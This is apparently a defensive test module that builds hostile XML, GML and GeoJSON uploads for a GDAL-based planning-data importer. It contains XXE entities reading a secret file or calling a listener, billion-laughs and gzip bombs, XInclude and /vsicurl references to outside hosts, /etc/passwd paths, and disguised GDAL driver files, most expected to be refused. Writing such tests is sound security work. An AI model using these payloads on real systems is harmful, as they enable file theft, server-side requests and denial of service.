"""XML and JSON: entities, bombs, floods, references that leave the file, other drivers in disguise, broken text."""

import gzip
import json
import re
from collections.abc import Iterator
from pathlib import Path

from tests.files import feature, plan, polygon, prop, xplangml
from tests.hostile import Case, Lure, Outcome

GOOD = xplangml(plan())
_BEFORE_ROOT = re.compile(r"\?>\n")


def with_doctype(doctype: str, document: str = GOOD) -> str:
    return _BEFORE_ROOT.sub(lambda _: f"?>\n{doctype}\n", document, count=1)


def cases(lure: Lure, folder: Path) -> Iterator[Case]:
    for make in (_entities, _bombs, _floods, _references, _broken, _numbers, _disguises, _geojson):
        yield from make(lure)


def _entities(lure: Lure) -> Iterator[Case]:
    leaking = GOOD.replace("Am Hang", "&leak;")
    doctypes = {
        "external entity, file": f'<!DOCTYPE x [<!ENTITY leak SYSTEM "file://{lure.secret}">]>',
        "external entity, http": f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{lure.url}/entity">]>',
        "external entity, public": f'<!DOCTYPE x [<!ENTITY leak PUBLIC "-//X//X" "file://{lure.secret}">]>',
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure.url}/p.dtd"> %p; <!ENTITY leak "x">]>',
        "entity in the text": '<!DOCTYPE x [<!ENTITY leak "s">]>',
        "external DTD, file": f'<!DOCTYPE XPlanAuszug SYSTEM "file://{lure.secret}">',
        "external DTD, http": f'<!DOCTYPE XPlanAuszug SYSTEM "{lure.url}/x.dtd">',
        "default of an attribute": "<!DOCTYPE x [<!ATTLIST xplan:XPlanAuszug srsName CDATA 'EPSG:1'>]>",
        "bare doctype": "<!DOCTYPE XPlanAuszug>",
        "notation": f'<!DOCTYPE x [<!NOTATION n SYSTEM "file://{lure.secret}"><!ENTITY u SYSTEM "x" NDATA n>]>',
    }
    for name, doctype in doctypes.items():
        document = with_doctype(doctype, leaking if "leak" in doctype else GOOD)
        yield Case(name, "plan.gml", document.encode(), Outcome.REFUSED)
    document = with_doctype(doctypes["external entity, file"], leaking)
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-7", "utf-32", "iso-8859-1", "cp037"):
        declared = document.replace("UTF-8", encoding.removesuffix("-sig").upper(), 1)
        yield Case(f"external entity in {encoding}", "plan.gml", declared.encode(encoding), Outcome.REFUSED)
    yield Case("external entity in gzip", "plan.gml.gz", gzip.compress(document.encode()), Outcome.REFUSED)
    yield Case("undefined entity", "plan.gml", leaking.encode(), Outcome.REFUSED)


def _bombs(lure: Lure) -> Iterator[Case]:
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    using = GOOD.replace("Am Hang", "&j;")
    yield Case("billion laughs", "plan.gml", with_doctype(f"<!DOCTYPE x [{laughs}]>", using).encode(), Outcome.REFUSED)
    blow = with_doctype(f'<!DOCTYPE x [<!ENTITY j "{"A" * 100_000}">]>', GOOD.replace("Am Hang", "&j;" * 10_000))
    yield Case("quadratic blow-up", "plan.gml", blow.encode(), Outcome.REFUSED)
    loop = with_doctype('<!DOCTYPE x [<!ENTITY j "&k;"><!ENTITY k "&j;">]>', using)
    yield Case("entities in a circle", "plan.gml", loop.encode(), Outcome.REFUSED)
    parameters = "<!ENTITY % a \"<!ENTITY b 'x'>\">" + "%a;" * 1000
    yield Case("parameter entities", "plan.gml", with_doctype(f"<!DOCTYPE x [{parameters}]>").encode(), Outcome.REFUSED)


def _floods(lure: Lure) -> Iterator[Case]:
    for depth in (100, 10_000, 1_000_000):
        nested = "<xplan:a>" * depth + "</xplan:a>" * depth
        yield Case(f"{depth} levels", "plan.gml", xplangml(plan(extra=nested)).encode(), Outcome.REFUSED)
    yield Case("a million levels, nothing closed", "plan.gml", b"<a>" * 1_000_000, Outcome.REFUSED)
    many = " ".join(f'a{i}="1"' for i in range(400_000))
    yield Case("400,000 attributes", "plan.gml", xplangml(plan(extra=f"<xplan:x {many}/>")).encode(), Outcome.REFUSED)
    spaces = " ".join(f'xmlns:a{i}="urn:{i}"' for i in range(50_000))
    yield Case("50,000 namespaces", "plan.gml", xplangml(plan(extra=f"<xplan:x {spaces}/>")).encode(), Outcome.REFUSED)
    three = xplangml(plan(extra="<xplan:a/>" * 3_000_000))
    yield Case("three million elements in one object", "plan.gml.gz", gzip.compress(three.encode()), Outcome.REFUSED)
    outside = GOOD.replace("</xplan:XPlanAuszug>", "<a/>" * 3_000_000 + "</xplan:XPlanAuszug>")
    yield Case("three million elements beside the objects", "plan.gml", outside.encode(), Outcome.REFUSED)
    yield Case("a text of 11 MB", "plan.gml", xplangml(plan(name="x" * 11_000_000)).encode(), Outcome.REFUSED)
    long = f'<xplan:x a="{"x" * 11_000_000}"/>'
    yield Case("an attribute of 11 MB", "plan.gml", xplangml(plan(extra=long)).encode(), Outcome.REFUSED)
    name = "x" * 200_000
    yield Case("a name of 200 kB", "plan.gml", xplangml(plan(extra=f"<xplan:{name}/>")).encode(), Outcome.REFUSED)
    comment = GOOD.replace("<gml:featureMember>", f"<!--{'x' * 20_000_000}--><gml:featureMember>", 1)
    yield Case("a comment of 20 MB", "plan.gml", comment.encode(), Outcome.REFUSED)
    gone = GOOD.encode() + b"\n" * 1_000 + b"<"
    yield Case("a second root", "plan.gml", gone, Outcome.REFUSED)
    star = " ".join(f"{(i * 997) % 2001} {1000 * (i % 2)}" for i in range(2001)) + " 0 0"
    yield Case("a star that crosses itself a million times", "plan.gml", xplangml(plan(outline=polygon(star))).encode())
    ring = " ".join(f"{i % 400} {i // 400}" for i in range(1_200_000)) + " 0 0"
    yield Case("a ring of 1,200,000 vertices", "plan.gml", xplangml(plan(outline=polygon(ring))).encode())


def _references(lure: Lure) -> Iterator[Case]:
    """Remote places where GML or XInclude would let a parser fetch geometry, text or coordinate systems."""
    for target in (
        f"file://{lure.secret}",
        f"{lure.url}/x.gml#g",
        lure.secret,
        "../../../../etc/passwd",
        f"\\\\127.0.0.1\\share\\{Path(lure.secret).name}",
        f"/vsicurl/{lure.url}/x",
        "jar:file:///x!/y",
    ):
        links = {
            "geometry": f'<xplan:raeumlicherGeltungsbereich xlink:href="{target}"/>',
            "text": f'<xplan:texte xlink:href="{target}"/>',
            "surface member": prop(
                "position",
                f'<gml:MultiSurface srsName="EPSG:25832"><gml:surfaceMember xlink:href="{target}"/></gml:MultiSurface>',
            ),
        }
        for what, element in links.items():
            yield Case(
                f"xlink of a {what} to {target.partition(':')[0][:12]}",
                "plan.gml",
                xplangml(plan(extra=element)).encode(),
                Outcome.REFUSED,
            )
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{lure.secret}" parse="text"/>',
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{lure.url}/x"/>',
    )
    for number, element in enumerate(include):
        yield Case(
            f"XInclude {number}",
            "plan.gml",
            xplangml(plan(extra=prop("beschreibung", element))).encode(),
            Outcome.REFUSED,
        )
    for srs in (
        f"file://{lure.secret}",
        f"{lure.url}/crs.xml",
        lure.secret,
        "http://127.0.0.1:9/EPSG:25832",
        f"{lure.url}/def/crs/EPSG/0/25832",
        "+init=epsg:25832 +geoidgrids=/etc/passwd",
        "EPSG:999999",
        "EPSG:25832" * 10_000,
    ):
        yield Case(f"srsName {srs[:24]}", "plan.gml", xplangml(plan(outline=polygon(srs=srs))).encode())
    catalogue = GOOD.replace("?>\n", f'?>\n<?oasis-xml-catalog catalog="file://{lure.secret}"?><!DOCTYPE x>\n', 1)
    yield Case("XML catalogue", "plan.gml", catalogue.encode(), Outcome.REFUSED)


def _broken(lure: Lure) -> Iterator[Case]:
    whole = GOOD.encode()
    for share in (0.05, 0.3, 0.6, 0.9, 0.99):
        yield Case(f"cut short after {share:.1%}", "plan.gml", whole[: int(len(whole) * share)], Outcome.REFUSED)
    hang = b"Am Hang"
    for name, bad in {
        "NUL": b"A\0m",
        "NUL as reference": b"A&#0;m",
        "overlong slash": b"\xc0\xaf",
        "surrogate": b"\xed\xa0\x80",
        "lone byte": b"\xff",
        "beyond Unicode": b"\xf5\x80\x80\x80",
        "forbidden character": b"\x0b",
        "reference to a surrogate": b"&#xD800;",
        "ampersand": b"A & B",
        "tag not closed": b"<b>",
    }.items():
        yield Case(f"text with {name}", "plan.gml", whole.replace(hang, bad), Outcome.REFUSED)
    yield Case(
        "ISO-8859-1 declared as UTF-8", "plan.gml", GOOD.replace("Am Hang", "Bäche").encode("latin-1"), Outcome.REFUSED
    )
    yield Case("UTF-16 declared, UTF-8 written", "plan.gml", whole.replace(b"UTF-8", b"UTF-16", 1), Outcome.REFUSED)
    yield Case("encoding that nobody knows", "plan.gml", whole.replace(b"UTF-8", b"KLINGON", 1), Outcome.REFUSED)
    yield Case(
        "an attribute twice", "plan.gml", whole.replace(b'gml:id="doc"', b'gml:id="doc" gml:id="doc"'), Outcome.REFUSED
    )
    yield Case("a prefix without namespace", "plan.gml", whole.replace(b"xmlns:gml", b"xmlns:gmx"), Outcome.REFUSED)
    yield Case("nothing at all", "plan.gml", b"", Outcome.REFUSED)
    yield Case("zeros", "plan.gml", b"\0" * 5_000, Outcome.REFUSED)
    yield Case(
        "a page of the web", "plan.gml", b"<!DOCTYPE html><html><script>alert(1)</script></html>", Outcome.REFUSED
    )
    yield Case("gzip in gzip", "plan.gml.gz", gzip.compress(gzip.compress(whole)), Outcome.REFUSED)
    yield Case("gzip bomb", "plan.gml.gz", gzip.compress(b"<" + b" " * 170_000_000, 9), Outcome.REFUSED)
    yield Case("gzip cut short", "plan.gml.gz", gzip.compress(whole)[:-30], Outcome.REFUSED)


def _numbers(lure: Lure) -> Iterator[Case]:
    """Coordinates that are none, in an outline: nothing is left that could be published."""
    shapes = {
        word: polygon().replace("480100.000", word)
        for word in ("NaN", "INF", "-INF", "1e308", "1e999", "9" * 400, "null", "0x10", "1,5", "")
    }
    shapes["odd number of coordinates"] = polygon("0 0 10 0 10")
    shapes["one point"] = polygon("0 0 0 0 0 0 0 0")
    shapes["no point"] = polygon("")
    shapes["ring not closed, two points"] = polygon("0 0 10 0")
    shapes["dimension of a billion"] = polygon().replace("<gml:posList", '<gml:posList srsDimension="1000000000"')
    shapes["dimension zero"] = polygon().replace("<gml:posList", '<gml:posList srsDimension="0"')
    shapes["on the moon"] = polygon(origin=(9e15, 9e15))
    for name, shape in shapes.items():
        yield Case(f"outline: {name[:30]}", "plan.gml", xplangml(plan(outline=shape)).encode())
    arc = (
        '<gml:Curve srsName="EPSG:25832"><gml:segments><gml:{kind}><gml:pos>480000 5630000</gml:pos>'
        '<gml:radius uom="m">{radius}</gml:radius></gml:{kind}></gml:segments></gml:Curve>'
    )
    for radius in ("1e300", "NaN", "-1", "1e12"):
        shape = arc.format(kind="CircleByCenterPoint", radius=radius)
        bad = feature("BP_BauGrenze", "g", prop("position", shape))
        yield Case(f"circle of radius {radius}", "plan.gml", xplangml(plan(), bad).encode())


def _disguises(lure: Lure) -> Iterator[Case]:
    """Other drivers of GDAL under every name: each would read the secret or ask the listener."""
    raster = (
        '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1"{more}><SimpleSource>'
        "<SourceFilename>{source}</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
    )
    python = "<PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionCode>import os</PixelFunctionCode>"
    contents = {
        "VRT": raster.format(source=lure.secret, more=""),
        "VRT of another host": raster.format(source=f"/vsicurl/{lure.url}/x.tif", more=""),
        "raw VRT": raster.format(source=lure.secret, more=' subClass="VRTRawRasterBand"'),
        "VRT in Python": raster.format(source=lure.secret, more="").replace(
            "<SimpleSource>", f"{python}<SimpleSource>"
        ),
        "OGR VRT": f"<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{lure.secret}</SrcDataSource>"
        "</OGRVRTLayer></OGRVRTDataSource>",
        "OGR VRT of another host": f"<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>/vsicurl/{lure.url}/x.json"
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
        "GDAL_WMS": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{lure.url}/${{z}}</ServerUrl></Service></GDAL_WMS>",
        "WFS": f"<OGRWFSDataSource><URL>{lure.url}/wfs</URL></OGRWFSDataSource>",
        "WCS": f"<WCS_GDAL><ServiceURL>{lure.url}/wcs?</ServiceURL><CoverageName>x</CoverageName></WCS_GDAL>",
        "GTI": f"<GDALTileIndexDataset><IndexDataset>{lure.secret}</IndexDataset></GDALTileIndexDataset>",
        "GDALG": json.dumps(
            {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {lure.secret}"}
        ),
        "STAC": json.dumps(
            {
                "type": "FeatureCollection",
                "stac_version": "1.0.0",
                "features": [
                    {
                        "type": "Feature",
                        "geometry": None,
                        "properties": {},
                        "assets": {"x": {"href": f"{lure.url}/a.tif"}},
                    }
                ],
            }
        ),
        "a connection": f"WFS:{lure.url}/wfs",
        "a path": f"/vsicurl/{lure.url}/x.tif",
    }
    for name, content in contents.items():
        for suffix in (".gml", ".tif", ".geojson", ".vrt", ".shp", ".gpkg", ".pdf"):
            yield Case(f"{name} as {suffix}", f"plan{suffix}", content.encode())


def _geojson(lure: Lure) -> Iterator[Case]:
    ring = [[8.7, 50.8], [8.71, 50.8], [8.71, 50.81], [8.7, 50.8]]
    properties = {"planwerk": "BP", "nummer": "5", "name": "Am Hang", "ags": "06534008", "planart": "1000"}
    good = {"type": "Feature", "properties": properties, "geometry": {"type": "Polygon", "coordinates": [ring]}}

    def collection(*features: object, **members: object) -> str:
        return json.dumps({"type": "FeatureCollection", "features": features or [good]} | members)

    def case(name: str, text: str | bytes, outcome: Outcome = Outcome.REFUSED) -> Case:
        return Case(f"GeoJSON: {name}", "plan.geojson", text if isinstance(text, bytes) else text.encode(), outcome)

    for kind, key in (("link", "href"), ("url", "url"), ("OGC", "urn"), ("name", "href")):
        for target in (f"{lure.url}/crs", f"file://{lure.secret}"):
            yield case(f"crs of type {kind}, {target[:8]}", collection(crs={"type": kind, "properties": {key: target}}))
    named = {"type": "name", "properties": {"name": f"{lure.url}/crs.wkt"}}
    yield case("crs with a URL for a name", collection(crs=named), Outcome.TOLD)
    for depth in (60, 10_000, 10_000_000):
        nested = "[" * depth + "]" * depth
        yield case(f"{depth} brackets", f'{{"type": "Polygon", "coordinates": {nested}}}')
    nested = '{"a":' * 5_000 + "1" + "}" * 5_000
    yield case("objects in objects", collection().replace('"properties": {', f'"properties": {{"deep": {nested}, '))
    yield case(
        "20,000 objects, each with a key of its own",
        collection(*({"type": "Feature", "properties": {f"k{i}": 1}, "geometry": None} for i in range(20_000))),
    )
    yield case("300,000 objects", collection(*([{"type": "Feature", "properties": {}, "geometry": None}] * 300_000)))
    yield case("a text of 3 MB", collection(good | {"properties": properties | {"name": "x" * 3_000_000}}))
    for number in ("NaN", "Infinity", "-Infinity", "1e999", "0x10", "9" * 5000, "01", "+1"):
        yield case(f"number {number[:9]}", collection().replace("8.71", number, 1))
    for number in ("1e308", "null", "true", '"8.7"', "-1e300", "123456789012345678901234567890"):
        yield case(f"coordinate {number[:12]}", collection().replace("8.71", number), Outcome.TOLD)
    yield case("a key twice", collection().replace('"nummer"', '"name"'))
    yield case("NUL in a text", collection().replace("Am Hang", "Am\\u0000Hang"))
    yield case("half a surrogate", collection().replace("Am Hang", "Am\\ud800Hang"))
    yield case("no UTF-8", collection().replace("Am Hang", "B\\u00e4che").encode().replace(b"B\\u00e4", b"B\xe4"))
    yield case("cut short", collection()[:-20])
    yield case("text behind it", collection() + "<script>")
    yield case("TopoJSON", '{"type": "Topology", "objects": {}}')
    yield case("ESRI JSON", '{"geometryType": "esriGeometryPolygon", "features": []}')
